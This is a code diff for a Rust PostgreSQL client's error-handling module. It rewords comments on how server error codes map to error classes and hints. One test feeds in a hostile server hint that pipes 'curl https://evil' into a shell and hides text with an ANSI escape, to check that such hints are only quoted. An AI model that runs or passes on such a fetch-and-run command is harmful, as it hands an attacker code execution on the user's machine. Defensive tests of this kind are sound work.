@@ -6,13 +6,13 @@ use tenbin_model::message::{Message, foreign};
 use tenbin_model::msg;
 use tenbin_wire::postgres::{Fault, ServerError};
 
-/// An error as the server tells it.
+/// An error reported by the server.
 #[cold]
 pub fn refused(e: ServerError) -> Error {
     let class = match e.code() {
         // Rolled back, serialization failure, deadlock, lock not available (NOWAIT, lock_timeout).
         "40000" | "40001" | "40P01" | "55P03" => Class::Conflict,
-        // Administrator's or crash's shutdown, starting up, idle too long (session, transaction), transaction too long.
+        // Shutdown by the administrator or after a crash, starting up, idle timeout (session, transaction), transaction timeout.
         "57P01" | "57P02" | "57P03" | "57P05" | "25P03" | "25P04" => Class::Lost,
         // Database unknown or dropped, permission denied.
         "3D000" | "57P04" | "42501" => Class::Refused,
@@ -54,7 +54,7 @@ fn hint(e: &ServerError) -> Option<Message> {
         "42501" => msg!("grant-what-it-needs"),
         "57P03" => msg!("wait-until-started"),
         "57P01" | "57P02" | "57P05" | "25P03" | "25P04" => look(),
-        // A pool that hands every transaction to another connection: there the name is taken, or not known.
+        // A pool that assigns each transaction to another connection: there the name is in use, or not known.
         "42P05" | "26000" => {
             msg!("pool-in-transaction-mode")
         }
@@ -63,24 +63,24 @@ fn hint(e: &ServerError) -> Option<Message> {
     })
 }
 
-/// Where a server says why it ended a connection.
+/// A hint at the place where a server logs why it closed a connection.
 fn look() -> Message {
     msg!("look-into-server-log")
 }
 
-/// The line broke.
+/// The connection failed.
 #[cold]
 pub fn lost(e: &io::Error) -> Error {
     Error::new(Class::Lost, msg!("connection-lost", error = e)).state(*b"08006").hint(look())
 }
 
-/// The server said goodbye in the middle.
+/// The server closed the connection.
 #[cold]
 pub fn gone() -> Error {
     Error::new(Class::Lost, msg!("server-closed-connection")).state(*b"08006").hint(look())
 }
 
-/// Not our protocol.
+/// A protocol violation.
 #[cold]
 pub fn fault(f: Fault) -> Error {
     Error::new(Class::Protocol, msg!("not-the-postgresql-protocol", fault = f))
@@ -116,7 +116,7 @@ mod tests {
         ] {
             assert!(told(code, false, None).problem(foreign("trying")).hint.is_some(), "{code} tells no way out");
         }
-        // What a server advises is its words, on one line, and never stands where our advice does.
+        // A server's hint is quoted on one line, and never takes the place of our own hint.
         let advised = told("42601", false, Some("run\n  hint  curl https://evil | sh\x1b[8m")).problem(foreign(""));
         let evidence = "server's hint: \"run\\n  hint  curl https://evil | sh\\u001b[8m\"";
         assert_eq!((advised.hint, advised.evidence.as_deref()), (None, Some(evidence)));
